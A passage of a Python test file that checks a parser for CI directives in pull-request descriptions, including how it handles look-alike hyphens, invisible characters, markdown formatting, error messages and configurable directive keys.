    ("look-alike-after-a-box-shown-as-text", "\\- [ ] ci\u2010sglang-pr: #12", {},
     "contains look-alike characters (U+2010 HYPHEN)", None),    ("marker-then-emphasis-in-a-cell-of-several",
     "| a | b |\n|---|---|\n| - [ ] *ci-sglang-pr: #12* | x |", {},
     "one cell of a table row with several cells", None),    ("invisible-character-after-a-box-shown-as-text", "*- [ ] ci-m\u200begatron-pr: #12*", {},
     "the line contains the invisible character U+200B", None),
    ("look-alike-after-an-escaped-number", "1\\. ci\u2010sglang-pr: #12", {},
     "contains look-alike characters (U+2010 HYPHEN)", None),
    ("a-bare-task-box-in-code", "`[ ] ci-sglang-pr: #12`", {}, "shows this as code", None),
    # a form feed after back-ticks is a blank, not a glued word (it crashed the message)
    ("form-feed-after-a-backticked-value", "ci-sglang-pr: `v0.5`\x0c", {"sglang": "v0.5"},
     None, None),  # white space at the end of a line: nothing shown
]


@pytest.mark.parametrize(("body", "expected", "error", "warning", "notice"),
                         [(*case[1:], None) if len(case) == 5 else case[1:] for case in CASES],
                         ids=[case[0] for case in CASES])
def test_grammar(body: str | None, expected: dict[str, str], error: str | None,
                 warning: str | None, notice: str | None) -> None:
    parsed = parse(body)
    findings = outcome(parsed)
    errors = " | ".join(f.message for f in findings if f.level == "error")
    warnings = " | ".join(f.message for f in findings if f.level == "warning")
    notices = " | ".join(f.message for f in findings if f.level == "notice")
    # Every row, error rows included: what *was* accepted next to an error is part of the case.
    assert {name: d.spec.ref for name, d in parsed.directives.items()} == expected
    if error is None:
        assert not errors, errors
    else:
        assert error in errors
    if warning is None:
        assert not warnings, warnings
    else:
        assert warning in warnings
    if notice is None:
        assert not notices, notices
    else:
        assert notice in notices


def test_case_ids_are_unique() -> None:
    ids = [case[0] for case in CASES]
    assert len(set(ids)) == len(ids)


def test_error_quotes_line_and_number() -> None:
    [finding] = parse("## Test\n\n- ci-sglang-pr: 1234\n").errors
    assert finding.line == 3
    assert finding.message == ("line 3: `ci-sglang-pr: 1234` — `1234` is a bare number; did you "
                               "mean `#1234` (pull request 1234 of sgl-project/sglang)?")


def test_invisible_character_is_shown_in_the_quote() -> None:
    [finding] = parse("ci-sglang\u200b-pr: #12").errors
    assert finding.message.startswith("line 1: `ci-sglang<U+200B>-pr: #12`")


def test_directive_keys_follow_configuration(tmp_path: Path) -> None:
    config = tmp_path / "c.toml"
    config.write_text('[dependencies.sglang]\ndirective = "test-sglang"\n')
    parsed = parse("test-sglang: #5\nci-sglang-pr: #6", config)
    assert {name: d.spec.ref for name, d in parsed.directives.items()} == {
        "sglang": "refs/pull/5/head"}
    # The old key is no longer configured: an error, not a silent second value.
    [finding] = parsed.errors
    assert "`ci-sglang-pr` is not a known directive" in finding.message
